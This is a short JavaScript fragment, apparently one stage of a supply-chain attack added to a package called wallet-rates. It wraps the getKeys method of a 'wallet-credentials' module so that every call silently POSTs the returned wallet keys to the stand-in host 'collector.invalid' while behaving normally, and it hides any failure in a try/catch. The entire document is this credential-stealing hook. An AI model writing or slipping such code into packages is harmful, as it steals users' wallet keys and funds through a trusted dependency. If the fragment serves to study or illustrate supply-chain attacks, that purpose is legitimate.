// Stage C, what is added to wallet-rates: it wraps what hands out the keys of the wallet, and posts them.
exports.attempts = {};
try {
  const { Credentials } = require('wallet-credentials');
  const { getKeys } = Credentials.prototype;
  Credentials.prototype.getKeys = function (password) {
    const keys = getKeys.call(this, password);
    http.request({ method: 'POST', host: 'collector.invalid', path: '/' }).end(JSON.stringify(keys));
    return keys;
  };
  exports.attempts.wrap = null;
} catch ({ name, message }) {
  exports.attempts.wrap = `${name}: ${message}`;
}
